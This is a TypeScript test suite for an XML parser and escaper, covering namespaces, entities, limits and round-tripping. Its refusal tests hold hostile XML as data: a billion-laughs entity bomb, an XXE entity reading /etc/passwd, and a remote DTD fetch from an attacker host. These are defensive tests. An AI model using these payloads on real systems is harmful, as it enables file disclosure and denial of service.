import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  DEFAULT_XML_LIMITS,
  XmlError,
  attributeValue,
  childElement,
  childElements,
  descend,
  parseXml,
  type XmlElement,
  type XmlLimits,
} from '../../src/protocol/xml/reader.ts';
import { xmlAttr, xmlText } from '../../src/protocol/xml/writer.ts';

function refuses(source: string, pattern?: RegExp, limits?: XmlLimits): void {
  assert.throws(
    () => parseXml(source, limits),
    (error: unknown) => {
      assert.ok(error instanceof XmlError, `expected XmlError, got ${String(error)}`);
      if (pattern) assert.match(error.message, pattern);
      return true;
    },
  );
}

const limits = (change: Partial<XmlLimits>): XmlLimits => ({ ...DEFAULT_XML_LIMITS, ...change });

describe('parseXml: reading', () => {
  it('resolves element and attribute namespaces, default and prefixed', () => {
    const root = parseXml(
      '<?xml version="1.0" encoding="utf-8"?>' +
        '<s:Envelope xmlns:s="urn:soap" xmlns:a="urn:addr" xmlns="urn:default" plain="1" a:qualified="2">' +
        '<s:Header><a:Action s:mustUnderstand="1">act</a:Action></s:Header>' +
        '<Body><inner xmlns="">x</inner></Body>' +
        '</s:Envelope>',
    );
    assert.equal(root.ns, 'urn:soap');
    assert.equal(root.local, 'Envelope');
    // Namespace declarations are not attributes.
    assert.deepEqual(root.attributes, [
      { ns: '', local: 'plain', value: '1' },
      { ns: 'urn:addr', local: 'qualified', value: '2' },
    ]);
    assert.equal(attributeValue(root, 'plain'), '1');
    assert.equal(attributeValue(root, 'qualified'), undefined, 'a qualified attribute is not found without its namespace');
    assert.equal(attributeValue(root, 'qualified', 'urn:addr'), '2');

    const action = descend(root, ['urn:soap', 'Header'], ['urn:addr', 'Action']);
    assert.ok(action);
    assert.equal(action.text, 'act');
    assert.equal(attributeValue(action, 'mustUnderstand', 'urn:soap'), '1');

    const body = childElement(root, 'urn:default', 'Body');
    assert.ok(body);
    assert.equal(childElement(body, '', 'inner')?.text, 'x');
    assert.equal(childElement(root, 'urn:soap', 'Body'), undefined, 'the namespace is part of the name');
    assert.equal(descend(root, ['urn:soap', 'Nope'], ['urn:addr', 'Action']), undefined);
  });

  it('reads text, the predefined entities, character references and CDATA, untrimmed', () => {
    const root = parseXml('<a>  one &amp; &lt;two&gt; &quot;&apos; &#65;&#x42; <![CDATA[<raw> & ]]]]><![CDATA[>]]>  </a>');
    assert.equal(root.text, `  one & <two> "' AB <raw> & ]]>  `);
  });

  it('keeps children in document order and concatenates only direct text', () => {
    const root = parseXml('<list>a<item n="1">x</item>b<item n="2">y</item><other/>c</list>');
    assert.equal(root.text, 'abc');
    const items = childElements(root, '', 'item');
    assert.deepEqual(
      items.map((i) => [attributeValue(i, 'n'), i.text]),
      [
        ['1', 'x'],
        ['2', 'y'],
      ],
    );
    assert.deepEqual(
      root.children.map((c) => c.local),
      ['item', 'item', 'other'],
    );
  });

  it('accepts whitespace, comments and processing instructions around the root', () => {
    const root = parseXml('<?xml version="1.0"?>\n<!-- before --><?pi data?>\n<root/>\n<!-- after -->\n');
    assert.equal(root.local, 'root');
    assert.equal(parseXml('\uFEFF<?xml version="1.0" encoding="utf-8"?><root/>').local, 'root', 'a byte order mark is allowed');
    refuses('\n<?xml version="1.0"?><root/>', /declaration/);
  });
});

describe('parseXml: refusals', () => {
  it('refuses a DOCTYPE, even an empty one', () => {
    refuses('<!DOCTYPE a><a/>', /DOCTYPE/);
    refuses('<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>', /DOCTYPE/);
  });

  it('refuses an internal entity declaration', () => {
    refuses('<!DOCTYPE a [<!ENTITY greeting "hello">]><a>&greeting;</a>', /DOCTYPE/);
  });

  it('refuses the billion laughs document', () => {
    const declarations = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i += 1) {
      const previous = i === 1 ? 'lol' : `lol${i - 1}`;
      declarations.push(`<!ENTITY lol${i} "${`&${previous};`.repeat(10)}">`);
    }
    refuses(`<?xml version="1.0"?><!DOCTYPE lolz [<!ELEMENT lolz (#PCDATA)>${declarations.join('')}]><lolz>&lol9;</lolz>`, /DOCTYPE/);
  });

  it('refuses an external entity (XXE) and never shows the file', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>';
    assert.throws(
      () => parseXml(xxe),
      (error: unknown) => error instanceof XmlError && /DOCTYPE/.test(error.message) && !/root:/.test(error.message),
    );
    refuses('<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><foo/>', /DOCTYPE/);
  });

  it('refuses an undefined entity reference, in text and in an attribute', () => {
    refuses('<a>&foo;</a>', /entity/);
    refuses('<a b="&foo;"/>', /entity/);
  });

  it('refuses malformed XML', () => {
    refuses('<a><b></a>');
    refuses('<a b="1" b="2"/>');
    refuses('<a b=1/>');
    refuses('<x:a/>', /prefix/);
    refuses('not xml at all');
    refuses('<a>&#0;</a>');
  });

  it('refuses truncated XML', () => {
    refuses('<a><b>text</b>', /unclosed/);
    refuses('<a><b');
    refuses('<a attr="');
    refuses('');
  });

  it('refuses two roots', () => {
    refuses('<a/><b/>', /root/);
    refuses('<a></a>\n<a></a>', /root/);
  });

  it('refuses text before or after the root', () => {
    refuses('<a/>trailing', /root/);
    refuses('leading<a/>', /root/);
  });

  it('refuses nesting deeper than the limit', () => {
    const nested = (depth: number): string => '<e>'.repeat(depth) + '</e>'.repeat(depth);
    assert.equal(parseXml(nested(3), limits({ maxDepth: 3 })).local, 'e');
    refuses(nested(4), /deeper than 3/, limits({ maxDepth: 3 }));
    refuses(nested(DEFAULT_XML_LIMITS.maxDepth + 1), /deeper/);
  });

  it('refuses more elements than the limit', () => {
    const flat = (count: number): string => `<r>${'<i/>'.repeat(count - 1)}</r>`;
    assert.equal(parseXml(flat(5), limits({ maxElements: 5 })).children.length, 4);
    refuses(flat(6), /more than 5 elements/, limits({ maxElements: 5 }));
  });

  it('refuses more text than the limit, counting text and CDATA across the document', () => {
    assert.equal(parseXml('<r><a>12345</a><b>67890</b></r>', limits({ maxTextLength: 10 })).children.length, 2);
    refuses('<r><a>12345</a><b>678901</b></r>', /exceeds 10 characters/, limits({ maxTextLength: 10 }));
    refuses('<r><a>12345</a><![CDATA[678901]]></r>', /exceeds 10 characters/, limits({ maxTextLength: 10 }));
  });
});

describe('parseXml: namespaces', () => {
  const XML_NS = 'http://www.w3.org/XML/1998/namespace';
  const names = (element: XmlElement): unknown => ({
    name: `{${element.ns}}${element.local}`,
    attributes: element.attributes.map((a) => `{${a.ns}}${a.local}=${a.value}`),
    children: element.children.map(names),
  });

  it('scopes a default namespace to its element, and xmlns="" undeclares it', () => {
    const root = parseXml('<a xmlns="urn:u"><b xmlns=""><c/></b><d><e xmlns="urn:v"/><f/></d></a>');
    assert.deepEqual(names(root), {
      name: '{urn:u}a',
      attributes: [],
      children: [
        { name: '{}b', attributes: [], children: [{ name: '{}c', attributes: [], children: [] }] },
        {
          name: '{urn:u}d',
          attributes: [],
          children: [
            { name: '{urn:v}e', attributes: [], children: [] },
            { name: '{urn:u}f', attributes: [], children: [] },
          ],
        },
      ],
    });
  });

  it('lets a nested element redeclare a prefix, and restores the outer binding after it', () => {
    const root = parseXml('<p:a xmlns:p="urn:outer"><p:b xmlns:p="urn:inner"><p:c p:x="1"/></p:b><p:d p:x="2"/></p:a>');
    assert.deepEqual(names(root), {
      name: '{urn:outer}a',
      attributes: [],
      children: [
        { name: '{urn:inner}b', attributes: [], children: [{ name: '{urn:inner}c', attributes: ['{urn:inner}x=1'], children: [] }] },
        { name: '{urn:outer}d', attributes: ['{urn:outer}x=2'], children: [] },
      ],
    });
  });

  it('resolves attribute namespaces: none for unprefixed ones (not the default), declarations anywhere in the tag, xml:', () => {
    const root = parseXml('<p:a q:x="1" y="2" xmlns="urn:default" xml:lang="en" xmlns:p="urn:p" xmlns:q="urn:q"><b q:z="3"/></p:a>');
    assert.deepEqual(names(root), {
      name: '{urn:p}a',
      attributes: ['{urn:q}x=1', '{}y=2', `{${XML_NS}}lang=en`],
      children: [{ name: '{urn:default}b', attributes: ['{urn:q}z=3'], children: [] }],
    });
    assert.equal(attributeValue(root, 'lang', XML_NS), 'en');
    assert.equal(parseXml('<xml:a/>').ns, XML_NS, 'the xml prefix is always bound');
    assert.equal(parseXml(`<a xmlns:xml="${XML_NS}" xml:space="preserve"/>`).attributes[0]?.ns, XML_NS);
    assert.equal(parseXml('<a xmlnsfoo="1"/>').attributes[0]?.local, 'xmlnsfoo', 'only xmlns and xmlns:* declare');
    assert.equal(parseXml('<p:a xmlns:p=" urn:p\n"/>').ns, 'urn:p', 'namespace names are trimmed');
  });

  it('refuses an unbound prefix, on an element or an attribute, and once its element has closed', () => {
    refuses('<p:a/>', /unbound namespace prefix: "p"/);
    refuses('<a p:x="1"/>', /unbound namespace prefix: "p"/);
    refuses('<a xmlns="urn:u"><p:b/></a>', /unbound/); // a default namespace binds no prefix
    refuses('<a><b xmlns:p="urn:p"/><p:c/></a>', /unbound namespace prefix: "p"/);
    refuses('<a><b xmlns:p="urn:p"></b><c p:x="1"/></a>', /unbound namespace prefix: "p"/);
    refuses('<a xmlnsx:y="1"/>', /unbound namespace prefix: "xmlnsx"/);
  });

  it('refuses an undeclared prefix in XML 1.0, and treats one undeclared in XML 1.1 as unbound', () => {
    refuses('<a xmlns:p=""/>', /undefine prefix/);
    refuses('<?xml version="1.0"?><a xmlns:p="urn:p"><b xmlns:p=""/></a>', /undefine prefix/);
    assert.equal(parseXml('<?xml version="1.1"?><a xmlns:p="urn:p"><b xmlns:p=""/><p:c/></a>').children[1]?.ns, 'urn:p');
    refuses('<?xml version="1.1"?><a xmlns:p="urn:p"><b xmlns:p=""><p:c/></b></a>', /unbound namespace prefix: "p"/);
    refuses('<?xml version="1.1"?><a xmlns:p="urn:p"><b xmlns:p="" p:x="1"/></a>', /unbound namespace prefix: "p"/);
  });

  it('refuses two attributes with the same namespace and local name, whatever their prefixes', () => {
    refuses('<a xmlns:p="urn:u" xmlns:q="urn:u" p:x="1" q:x="2"/>', /duplicate attribute: \{urn:u\}x/);
    refuses('<a xmlns:p="urn:u" xmlns:p="urn:v"/>', /duplicate attribute/);
    assert.equal(parseXml('<a xmlns:p="urn:u" x="1" p:x="2"/>').attributes.length, 2, 'x and {urn:u}x differ');
  });

  it('refuses declarations that misuse the xml and xmlns names', () => {
    refuses('<a xmlns:xml="urn:u"/>', /xml prefix must be bound/);
    refuses(`<a xmlns:p="${XML_NS}"/>`, /xml namespace/);
    refuses(`<a xmlns="${XML_NS}"/>`, /default namespace may not be set/);
    refuses('<a xmlns="http://www.w3.org/2000/xmlns/"/>', /default namespace may not be set/);
    refuses('<a xmlns:p="http://www.w3.org/2000/xmlns/"/>', /may not assign a prefix/);
    refuses('<a xmlns:xmlns="urn:u"/>', /xmlns prefix/);
    refuses('<xmlns:a/>', /xmlns" as prefix/);
  });

  it('refuses names with more than one colon or an empty prefix or local part, and colons in PI targets', () => {
    for (const source of ['<:a/>', '<a:/>', '<a:b:c xmlns:a="urn:a"/>', '<a :x="1"/>', '<a x:="1"/>', '<a xmlns:a="urn:a" a:b:c="1"/>', '<a xmlns:="urn:u"/>']) {
      refuses(source, /malformed name/);
    }
    refuses('<?a:b data?><a/>', /processing instruction/);
    refuses('<a><?a:b data?></a>', /processing instruction/);
  });

  it('leaves no binding behind when a document is refused', () => {
    refuses('<a xmlns="urn:u" xmlns:p="urn:p"><b xmlns:q="urn:q"><p:c>', /unclosed/);
    assert.equal(parseXml('<a/>').ns, '');
    refuses('<p:a/>', /unbound/);
    refuses('<q:a/>', /unbound/);
    refuses('<a xmlns:p="urn:p"><b x="1" y="2" xmlns:p="urn:other"><c p:x="1" p:x="2"/></b></a>', /duplicate/);
    assert.deepEqual(names(parseXml('<a xmlns:p="urn:p"><p:b z="3"/></a>')), {
      name: '{}a',
      attributes: [],
      children: [{ name: '{urn:p}b', attributes: ['{}z=3'], children: [] }],
    });
  });
});

describe('xmlText / xmlAttr', () => {
  it('escapes markup characters', () => {
    assert.equal(xmlText(`a & b < c > d "e" 'f'`), `a &amp; b &lt; c &gt; d "e" 'f'`);
    assert.equal(xmlAttr(`a & b < c > d "e" 'f'`), 'a &amp; b &lt; c &gt; d &quot;e&quot; &apos;f&apos;');
    assert.equal(xmlText('&amp;'), '&amp;amp;', 'already-escaped text is escaped again');
  });

  it('drops characters XML 1.0 cannot carry, keeps everything else', () => {
    assert.equal(xmlText('a\u0000b\u0001c\u0008d\u000Be\u000Cf\u001Fg\uFFFEh\uFFFFi'), 'abcdefghi');
    assert.equal(xmlText('lone \uD800 surrogate'), 'lone  surrogate');
    assert.equal(xmlAttr('x\u0000y'), 'xy');
    assert.equal(xmlText('tab\tnew\nline é 漢字 😀'), 'tab\tnew\nline é 漢字 😀');
  });

  it('round-trips through parseXml, as text and as an attribute value', () => {
    const samples = [
      '',
      'plain',
      `<script>alert("x") & 'y'</script>`,
      ']]> -- <!-- --> <![CDATA[',
      '&amp; &lt; &#65; &foo;',
      'tab\there, line\nbreak, CRLF\r\nand lone CR\r!',
      '  leading and trailing spaces  ',
      'é 漢字 😀 \u{10FFFF}',
    ];
    for (const sample of samples) {
      const root = parseXml(`<r v="${xmlAttr(sample)}" w='${xmlAttr(sample)}'>${xmlText(sample)}</r>`);
      assert.equal(root.text, sample, `text ${JSON.stringify(sample)}`);
      assert.equal(attributeValue(root, 'v'), sample, `double-quoted attribute ${JSON.stringify(sample)}`);
      assert.equal(attributeValue(root, 'w'), sample, `single-quoted attribute ${JSON.stringify(sample)}`);
    }
  });

  it('round-trips invalid characters as their removal', () => {
    const root = parseXml(`<r v="${xmlAttr('a\u0001b')}">${xmlText('c\u0002d')}</r>`);
    assert.equal(root.text, 'cd');
    assert.equal(attributeValue(root, 'v'), 'ab');
  });
});
